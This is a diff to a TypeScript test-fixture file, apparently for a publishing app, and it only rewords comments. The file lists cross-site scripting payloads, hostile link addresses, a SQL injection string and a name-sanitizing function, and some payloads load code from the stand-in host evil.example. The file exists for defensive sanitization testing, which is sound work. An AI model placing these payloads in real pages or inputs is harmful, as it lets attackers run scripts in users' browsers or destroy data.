@@ -1,6 +1,6 @@
-/** Texts with which somebody would run a script in a reader's or a colleague's browser. Each must be shown as it is and run nowhere. */
+/** Texts that try to run a script in a reader's or a colleague's browser. Each must be shown as written and never run. */
 export const scriptTexts: readonly string[] = [
-  // Elements that run by themselves.
+  // Elements that run on their own.
   "<script>alert(1)</script>",
   "<ScRiPt src=//evil.example/x.js></sCrIpT>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -18,7 +18,7 @@ export const scriptTexts: readonly string[] = [
   "<form action=javascript:alert(1)><button autofocus>x</button></form>",
   "<link rel=stylesheet href=//evil.example/x.css>",
   "<style>@import '//evil.example/x.css';*{background:url(javascript:alert(1))}</style>",
-  // Other languages inside HTML, and what a parser turns into something else.
+  // Other languages inside HTML, and markup that parsers rewrite.
   "<svg onload=alert(1)>",
   "<svg><script>alert(1)</script></svg>",
   "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
@@ -27,7 +27,7 @@ export const scriptTexts: readonly string[] = [
   "<math href=javascript:alert(1)>x</math>",
   "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
   "<p id='</p><script>alert(1)</script>'>",
-  // Ends of what surrounds a text.
+  // Ends of the context around a text.
   '"><script>alert(1)</script>',
   "'><img src=x onerror=alert(1)>",
   "`><svg/onload=alert(1)>",
@@ -41,7 +41,7 @@ export const scriptTexts: readonly string[] = [
   '" onmouseover=alert(1) style=position:fixed;inset:0 x="',
   "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
   '{"@type":"x"}</script><svg onload=alert(1)>',
-  // Templates, entities, addresses, signs.
+  // Templates, entities, addresses, special characters.
   "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %>",
   "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)",
   "javascript:alert(1) JaVaScRiPt:alert(1) java&#115;cript:alert(1)",
@@ -53,7 +53,7 @@ export const scriptTexts: readonly string[] = [
   "'; drop table articles; --",
 ];
 
-/** Addresses that no link of a text may have. */
+/** Addresses that no link in a text may have. */
 export const hostileAddresses: readonly string[] = [
   "javascript:alert(1)",
   "JaVaScRiPt:alert(1)",
@@ -73,7 +73,7 @@ export const hostileAddresses: readonly string[] = [
   "https:evil.example",
 ];
 
-/** A text as the name of a person, which has no signs that nobody sees. */
+/** Returns a text as the name of a person, from which invisible characters are removed. */
 export function personNameOf(text: string): string {
   return text.replace(/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu, "");
 }
